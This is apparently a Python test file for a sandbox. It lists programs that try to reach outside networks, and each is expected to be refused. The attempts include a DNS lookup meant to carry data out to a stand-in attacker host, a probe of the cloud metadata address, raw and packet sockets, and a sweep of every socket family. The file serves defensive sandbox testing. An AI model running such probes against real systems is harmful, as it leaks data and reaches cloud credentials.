"""Ways to talk to anybody outside. The runner also listens: nothing may arrive, whatever the program says."""

from __future__ import annotations

from glasswork.testing.hostile.program import Program, held, refuses

PROGRAMS = (
    refuses(
        59,
        "tcp_loopback",
        "a service on the host's loopback",
        "refused(lambda: socket.create_connection(('127.0.0.1', HOST['tcp']), 2))",
    ),
    refuses(60, "tcp_out", "the internet", "refused(lambda: socket.create_connection(('1.1.1.1', 80), 2))"),
    refuses(
        61,
        "udp_dns_exfil",
        "a datagram to the host",
        "refused(lambda: socket.socket(2, 2).sendto(b'out', ('127.0.0.1', HOST['udp'])))",
        "nothing arrives",
    ),
    refuses(
        62,
        "getaddrinfo",
        "a name that carries data out",
        "refused(lambda: socket.getaddrinfo('secretdata.attacker.example', 80))",
    ),
    refuses(63, "raw_socket", "a raw socket", "refused(lambda: socket.socket(2, 3, 1))"),
    refuses(64, "packet_socket", "a packet socket", "refused(lambda: socket.socket(17, 3, 0))"),
    refuses(65, "vsock", "a socket to the virtual machine's host", "refused(lambda: socket.socket(40, 1, 0))"),
    refuses(65, "netlink", "a socket to the kernel", "refused(lambda: socket.socket(16, 3, 0))"),
    refuses(
        66,
        "metadata_ip",
        "a cloud's metadata",
        "refused(lambda: socket.create_connection(('169.254.169.254', 80), 2))",
    ),
    Program(
        141,
        "every_family",
        "a socket of every family but unix, of every type, and pairs of them",
        "all refused",
        """
found = [(family, kind) for family in range(64) if family != 1 for kind in (1, 2, 3, 5) if
    not refused(lambda: socket.socket(family, kind)) or not refused(lambda: socket.socketpair(family, kind))]
judge(not found, found)
""",
        held,
    ),
)
